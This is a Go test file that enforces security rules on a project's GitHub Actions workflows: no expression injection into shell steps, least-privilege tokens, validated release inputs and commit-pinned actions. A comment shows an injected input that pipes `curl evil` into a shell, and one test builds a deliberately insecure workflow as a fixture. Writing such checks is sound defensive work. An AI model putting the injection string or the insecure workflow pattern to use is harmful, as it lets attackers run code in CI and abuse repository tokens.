package workflows

import (
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"gopkg.in/yaml.v3"

	"github.com/waste-coach/infra/internal/release"
)

// file is a workflow as the release checks read it.
type file struct {
	name        string
	On          yaml.Node         `yaml:"on"`
	Permissions yaml.Node         `yaml:"permissions"`
	Jobs        map[string]wfJob  `yaml:"jobs"`
	Env         map[string]string `yaml:"env"`
}

type wfJob struct {
	Uses        string            `yaml:"uses"`
	Environment yaml.Node         `yaml:"environment"`
	Permissions yaml.Node         `yaml:"permissions"`
	Env         map[string]string `yaml:"env"`
	Steps       []step            `yaml:"steps"`
}

type step struct {
	Name string            `yaml:"name"`
	ID   string            `yaml:"id"`
	If   string            `yaml:"if"`
	Uses string            `yaml:"uses"`
	Run  string            `yaml:"run"`
	With map[string]any    `yaml:"with"`
	Env  map[string]string `yaml:"env"`
}

func readWorkflows(t *testing.T, dir string) []file {
	t.Helper()
	paths, err := filepath.Glob(filepath.Join(dir, "*.yml"))
	if err != nil || len(paths) == 0 {
		t.Fatalf("no workflows under %s (%v)", dir, err)
	}
	var out []file
	for _, p := range paths {
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		f := file{name: filepath.Base(p)}
		if err := yaml.Unmarshal(b, &f); err != nil {
			t.Fatalf("%s: %v", p, err)
		}
		out = append(out, f)
	}
	return out
}

const workflowsDir = "../../.github/workflows"

// checkRunLines returns every `run:` script that holds a `${{ }}` expression: the expression is
// pasted into the script's text before the shell reads it, so an input such as
// `x"; curl evil | sh; "` would run. Values reach scripts through `env:` only.
func checkRunLines(files []file) []string {
	var problems []string
	for _, f := range files {
		for _, name := range slices.Sorted(maps.Keys(f.Jobs)) {
			for i, s := range f.Jobs[name].Steps {
				if strings.Contains(s.Run, "${{") {
					problems = append(problems, fmt.Sprintf("%s job %s step %d (%s): an expression in run: pastes its value into the script; pass it through env:", f.name, name, i, s.Name))
				}
			}
		}
	}
	return problems
}

// permissions returns a permissions block as written: nil when absent (the job inherits the
// workflow's), the scopes otherwise; read-all and write-all come back as a scope "*".
func permissions(n yaml.Node) map[string]string {
	switch n.Kind {
	case yaml.MappingNode:
		out := map[string]string{}
		for i := 0; i+1 < len(n.Content); i += 2 {
			out[n.Content[i].Value] = n.Content[i+1].Value
		}
		return out
	case yaml.ScalarNode:
		return map[string]string{"*": n.Value}
	}
	return nil
}

// allowedPermissions is every job's GITHUB_TOKEN permissions, each justified where it is
// granted; nil means the job inherits the workflow's (at most contents: read). A job missing
// here fails the check: its permissions are reviewed, not defaulted.
var allowedPermissions = map[string]map[string]string{
	// A called workflow's job gets at most what its caller's job has: up.yml asks for an OIDC
	// token, so the calling jobs must hold id-token: write (without it every deploy fails at
	// start-up: "requesting 'id-token: write', but is only allowed 'id-token: none'").
	// Reads dev's office hours from the checkout: the workflow's contents: read.
	"deploy.yml/dev-hours":     nil,
	"deploy.yml/dev":           {"contents": "read", "id-token": "write"},
	"deploy.yml/prod":          {"contents": "read", "id-token": "write"},
	"up.yml/up":                {"contents": "read", "id-token": "write"},
	"pull-request.yml/check":   nil,
	"pull-request.yml/preview": {"contents": "read", "id-token": "write", "pull-requests": "write"},
	// The release workflows push and open pull requests with the release app's token, scoped
	// by its own permission inputs (checkReleaseWorkflow); GITHUB_TOKEN only reads.
	"release.yml/pull-request": {"contents": "read"},
	"promote.yml/pull-request": {"contents": "read"},
}

// checkPermissions returns what grants more than allowed: a workflow-level grant beyond
// contents: read, a job whose permissions differ from its entry, a job with no entry.
func checkPermissions(files []file, allowed map[string]map[string]string) []string {
	var problems []string
	for _, f := range files {
		top := permissions(f.Permissions)
		if top == nil {
			problems = append(problems, f.name+": no workflow-level permissions: GITHUB_TOKEN would get the repository's default, which may be write-all")
		}
		for scope, level := range top {
			if scope != "contents" || level != "read" {
				problems = append(problems, fmt.Sprintf("%s: workflow-level permission %s: %s; grant it on the job that needs it", f.name, scope, level))
			}
		}
		for _, name := range slices.Sorted(maps.Keys(f.Jobs)) {
			key := f.name + "/" + name
			want, ok := allowed[key]
			got := permissions(f.Jobs[name].Permissions)
			switch {
			case !ok:
				problems = append(problems, fmt.Sprintf("%s: a job this check does not know; list its permissions in allowedPermissions with the reason", key))
			case !maps.Equal(got, want):
				problems = append(problems, fmt.Sprintf("%s: permissions %v, want %v", key, got, want))
			}
		}
	}
	return problems
}

// checkReleaseWorkflow returns what is wrong with a workflow that turns dispatched inputs into
// a pull request: how it is started, where its inputs go, what validates them before anything
// is pushed, and what the token that pushes may do.
func checkReleaseWorkflow(f file, events []string, inputs map[string][]string, subcommand string) []string {
	var problems []string
	bad := func(format string, args ...any) {
		problems = append(problems, f.name+": "+fmt.Sprintf(format, args...))
	}
	got := triggers(f.On)
	slices.Sort(got)
	if want := slices.Sorted(slices.Values(events)); !slices.Equal(got, want) {
		bad("runs on %v, want %v", got, want)
	}
	var on struct {
		RepositoryDispatch struct {
			Types []string `yaml:"types"`
		} `yaml:"repository_dispatch"`
		WorkflowDispatch struct {
			Inputs map[string]struct {
				Required bool     `yaml:"required"`
				Type     string   `yaml:"type"`
				Options  []string `yaml:"options"`
			} `yaml:"inputs"`
		} `yaml:"workflow_dispatch"`
	}
	if err := f.On.Decode(&on); err != nil {
		bad("on: %v", err)
	}
	if slices.Contains(events, "repository_dispatch") && !slices.Equal(on.RepositoryDispatch.Types, []string{"release-image"}) {
		bad("repository_dispatch types %v, want [release-image] (any other event type would start it)", on.RepositoryDispatch.Types)
	}
	if got := slices.Sorted(maps.Keys(on.WorkflowDispatch.Inputs)); !slices.Equal(got, slices.Sorted(maps.Keys(inputs))) {
		bad("workflow_dispatch inputs %v, want %v", got, slices.Sorted(maps.Keys(inputs)))
	}
	for name, options := range inputs {
		in := on.WorkflowDispatch.Inputs[name]
		if !in.Required {
			bad("input %s is not required", name)
		}
		if options != nil && (in.Type != "choice" || !slices.Equal(in.Options, options)) {
			bad("input %s: type %s options %v, want a choice of %v (the images config's keys)", name, in.Type, in.Options, options)
		}
	}
	if len(f.Jobs) != 1 {
		bad("%d jobs, want one", len(f.Jobs))
		return problems
	}
	for name, j := range f.Jobs {
		if env := environmentName(j.Environment); env != "release" {
			bad("job %s runs in environment %q, want `release` (which alone holds the release app's key)", name, env)
		}
		validate, token, push := -1, -1, -1
		for i, s := range j.Steps {
			switch {
			case strings.Contains(s.Run, "go run ./cmd/release "+subcommand):
				validate = i
			case strings.HasPrefix(s.Uses, "actions/create-github-app-token@"):
				token = i
				var scopes []string
				for k, v := range s.With {
					if p, ok := strings.CutPrefix(k, "permission-"); ok {
						scopes = append(scopes, p+": "+fmt.Sprint(v))
					}
				}
				slices.Sort(scopes)
				if want := []string{"contents: write", "pull-requests: write"}; !slices.Equal(scopes, want) {
					bad("the release app's token is asked for %v, want exactly %v (without permission inputs it gets every permission of the app)", scopes, want)
				}
			case strings.Contains(s.Run, "git push"):
				push = i
			}
			for k, v := range s.Env {
				if strings.Contains(v, "client_payload") || strings.Contains(v, "inputs.") {
					bad("step %d sets %s from the inputs; set them once on the job, where the validating step reads them", i, k)
				}
			}
		}
		if validate < 0 || token < 0 || push < 0 || validate >= token || token >= push {
			bad("steps must validate the inputs (cmd/release %s), then get the app token, then push: got validate=%d token=%d push=%d", subcommand, validate, token, push)
		}
		if validate >= 0 {
			run := j.Steps[validate].Run
			for in := range inputs {
				v := strings.ToUpper(in)
				if !strings.Contains(run, `"${`+v+`}"`) {
					bad("the validating step does not pass input %s as the quoted variable \"${%s}\"", in, v)
				}
				from := j.Env[v]
				if !strings.Contains(from, "inputs."+in) || (slices.Contains(events, "repository_dispatch") && !strings.Contains(from, "client_payload."+in)) {
					bad("job env %s = %q does not read the %s input of every event", v, from, in)
				}
			}
		}
	}
	return problems
}

// TestWorkflowsPassNoExpressionToAShell covers every workflow, not only the release ones.
func TestWorkflowsPassNoExpressionToAShell(t *testing.T) {
	for _, p := range checkRunLines(readWorkflows(t, workflowsDir)) {
		t.Error(p)
	}
}

// TestWorkflowsGrantLeastPermissions: every job's GITHUB_TOKEN has exactly the permissions
// listed, with their reason, in allowedPermissions.
func TestWorkflowsGrantLeastPermissions(t *testing.T) {
	for _, p := range checkPermissions(readWorkflows(t, workflowsDir), allowedPermissions) {
		t.Error(p)
	}
}

// TestReleaseWorkflowsValidateTheirInputs: the release takes a service (one of the images
// config's keys) and an image from a dispatch, validates both before the app token exists, and
// the promotion takes all or one service.
func TestReleaseWorkflowsValidateTheirInputs(t *testing.T) {
	files := readWorkflows(t, workflowsDir)
	byName := map[string]file{}
	for _, f := range files {
		byName[f.name] = f
	}
	services := release.Services()
	if want := []string{"auth", "users", "waste", "celery"}; !slices.Equal(services, want) {
		t.Fatalf("images config keys %v, want %v: update the workflows' choices with them", services, want)
	}
	for _, tc := range []struct {
		file, subcommand string
		events           []string
		inputs           map[string][]string
	}{
		{"release.yml", "set-image", []string{"repository_dispatch", "workflow_dispatch"}, map[string][]string{"service": services, "image": nil}},
		{"promote.yml", "promote", []string{"workflow_dispatch"}, map[string][]string{"service": append([]string{"all"}, services...)}},
	} {
		f, ok := byName[tc.file]
		if !ok {
			t.Errorf("no %s", tc.file)
			continue
		}
		for _, p := range checkReleaseWorkflow(f, tc.events, tc.inputs, tc.subcommand) {
			t.Error(p)
		}
	}
}

// TestReleaseChecksRefuseAnUnsafeRelease shows the checks can fail: a release that echoes its
// input in a script, pushes with a write GITHUB_TOKEN outside an environment, before validating.
func TestReleaseChecksRefuseAnUnsafeRelease(t *testing.T) {
	dir := t.TempDir()
	unsafe := `
on:
  repository_dispatch:
  workflow_dispatch:
    inputs:
      service:
        type: string
      image:
        required: true
        type: string
permissions: write-all
jobs:
  pr:
    runs-on: ubuntu-24.04
    permissions:
      contents: write
      pull-requests: write
    env:
      SERVICE: ${{ inputs.service }}
    steps:
      - uses: actions/checkout@v4.2.2
      - run: |
          sed -i "s|${{ inputs.service }}: .*|${{ inputs.service }}: ${{ inputs.image }}|" Pulumi.dev.yaml
          git push origin HEAD:release
      - uses: actions/create-github-app-token@v2.2.2
        with:
          app-id: "1"
          private-key: key
      - run: go run ./cmd/release set-image -service "$SERVICE"
`
	if err := os.WriteFile(filepath.Join(dir, "release.yml"), []byte(unsafe), 0o600); err != nil {
		t.Fatal(err)
	}
	files := readWorkflows(t, dir)
	var problems []string
	problems = append(problems, checkRunLines(files)...)
	problems = append(problems, checkPermissions(files, allowedPermissions)...)
	problems = append(problems, checkReleaseWorkflow(files[0], []string{"repository_dispatch", "workflow_dispatch"},
		map[string][]string{"service": release.Services(), "image": nil}, "set-image")...)
	for _, want := range []string{
		"an expression in run:",
		"workflow-level permission *: write-all",
		"release.yml/pr: a job this check does not know",
		"repository_dispatch types [], want [release-image]",
		"input service is not required",
		"input service: type string",
		"want `release`",
		"the release app's token is asked for []",
		"steps must validate the inputs",
		`does not pass input image`,
		`job env IMAGE = "" does not read`,
		`job env SERVICE = "${{ inputs.service }}" does not read the service input of every event`,
	} {
		if !slices.ContainsFunc(problems, func(p string) bool { return strings.Contains(p, want) }) {
			t.Errorf("no problem mentions %q; got:\n  %s", want, strings.Join(problems, "\n  "))
		}
	}
}

// usesLine is a step's or job's `uses:` (its value quoted or not) with the comment after it.
var usesLine = regexp.MustCompile(`^\s*(?:-\s+)?["']?uses["']?:\s*["']?([^\s"'#]+)["']?\s*(?:#\s*(.*))?$`)

var (
	commitSHA   = regexp.MustCompile(`^[0-9a-f]{40}$`)
	imageDigest = regexp.MustCompile(`@sha256:[0-9a-f]{64}$`)
	releaseTag  = regexp.MustCompile(`^v[0-9]+(\.[0-9]+)*$`)
)

// checkActionPins returns every action a workflow runs that is not pinned to a commit: a tag or
// a branch can be moved to other code by whoever controls the action's repository, a commit
// cannot. The tag the commit was taken from stays beside it as a comment, for the reader and
// for updates. A docker:// action must name its image by digest. Local workflows and actions
// (./...) are this repository's own code.
func checkActionPins(name string, content []byte) []string {
	var problems []string
	for i, line := range strings.Split(string(content), "\n") {
		m := usesLine.FindStringSubmatch(line)
		if m == nil || strings.HasPrefix(m[1], "./") {
			continue
		}
		if strings.HasPrefix(m[1], "docker://") {
			if !imageDigest.MatchString(m[1]) {
				problems = append(problems, fmt.Sprintf("%s:%d: %s is not pinned to an image digest (docker://<image>@sha256:<64 hex>)", name, i+1, m[1]))
			}
			continue
		}
		action, ref, _ := strings.Cut(m[1], "@")
		switch {
		case !commitSHA.MatchString(ref):
			problems = append(problems, fmt.Sprintf("%s:%d: %s is pinned to %q, not to a commit: use %s@<40-hex commit> # <tag>", name, i+1, action, ref, action))
		case !releaseTag.MatchString(strings.TrimSpace(m[2])):
			problems = append(problems, fmt.Sprintf("%s:%d: %s@%s has no release tag in a comment after it (# vX.Y.Z)", name, i+1, action, ref))
		}
	}
	return problems
}

// workflowFiles are every file GitHub may run as a workflow or a local action.
func workflowFiles(t *testing.T) []string {
	t.Helper()
	var paths []string
	for _, pattern := range []string{"*.yml", "*.yaml"} {
		p, err := filepath.Glob(filepath.Join(workflowsDir, pattern))
		if err != nil {
			t.Fatal(err)
		}
		paths = append(paths, p...)
	}
	_ = filepath.WalkDir(filepath.Join(workflowsDir, "..", "actions"), func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() && (d.Name() == "action.yml" || d.Name() == "action.yaml") {
			paths = append(paths, p)
		}
		return nil
	})
	if len(paths) == 0 {
		t.Fatalf("no workflows under %s", workflowsDir)
	}
	return paths
}

// TestWorkflowActionsArePinnedToCommits: every third-party action runs at a commit, with its tag
// in a comment.
func TestWorkflowActionsArePinnedToCommits(t *testing.T) {
	for _, p := range workflowFiles(t) {
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		for _, problem := range checkActionPins(filepath.Base(p), b) {
			t.Error(problem)
		}
	}
}

// TestActionPinCheckRefusesTagsAndBranches: the check itself finds a tag, a branch, a short
// commit and a commit without its tag, and passes local and pinned actions.
func TestActionPinCheckRefusesTagsAndBranches(t *testing.T) {
	const sha = "11bd71901bbe5b1630ceea73d27597364c9af683"
	cases := []struct {
		line string
		want string // "" when the line is fine
	}{
		{"      - uses: actions/checkout@v4.2.2", `pinned to "v4.2.2"`},
		{"      - uses: actions/checkout@main # v4.2.2", `pinned to "main"`},
		{"      - uses: actions/checkout@11bd719 # v4.2.2", `pinned to "11bd719"`},
		{"      - uses: actions/checkout@" + sha, "no release tag"},
		{"    uses: org/repo/.github/workflows/x.yml@v1", `pinned to "v1"`},
		{"      - uses: actions/checkout@" + sha + " # v4.2.2", ""},
		{"    uses: ./.github/workflows/up.yml", ""},
		{`      - uses: "actions/checkout@` + sha + `" # v4.2.2`, ""},
		{`      - "uses": 'actions/checkout@v4'`, `pinned to "v4"`},
		{`    uses: "./.github/workflows/up.yml"`, ""},
		{"      - uses: docker://alpine:3.20", "image digest"},
		{"      - uses: docker://alpine@sha256:" + strings.Repeat("ab", 32), ""},
	}
	for _, tc := range cases {
		got := checkActionPins("x.yml", []byte(tc.line))
		switch {
		case tc.want == "" && len(got) > 0:
			t.Errorf("%q: %v, want no problem", tc.line, got)
		case tc.want != "" && (len(got) != 1 || !strings.Contains(got[0], tc.want)):
			t.Errorf("%q: %v, want one problem with %q", tc.line, got, tc.want)
		}
	}
}

// TestPulumiActionRunsTheProvenCLI: every pulumi/actions step installs exactly the Pulumi CLI the
// engine runs prove (tools/engine/pulumi/go.mod), not whatever version the runner has or the
// action's default range picks.
func TestPulumiActionRunsTheProvenCLI(t *testing.T) {
	mod, err := os.ReadFile("../../tools/engine/pulumi/go.mod")
	if err != nil {
		t.Fatal(err)
	}
	m := regexp.MustCompile(`(?m)^require github.com/pulumi/pulumi/pkg/v3 v([0-9.]+)$`).FindSubmatch(mod)
	if m == nil {
		t.Fatal("tools/engine/pulumi/go.mod pins no github.com/pulumi/pulumi/pkg/v3")
	}
	proven, steps := string(m[1]), 0
	for _, f := range readWorkflows(t, workflowsDir) {
		for _, name := range slices.Sorted(maps.Keys(f.Jobs)) {
			for i, s := range f.Jobs[name].Steps {
				if !strings.HasPrefix(s.Uses, "pulumi/actions@") {
					continue
				}
				steps++
				if got := fmt.Sprint(s.With["pulumi-version"]); got != proven {
					t.Errorf("%s job %s step %d: pulumi-version %q, want %s (the CLI the engine runs prove)", f.name, name, i, got, proven)
				}
			}
		}
	}
	if steps == 0 {
		t.Error("no pulumi/actions step found")
	}
}
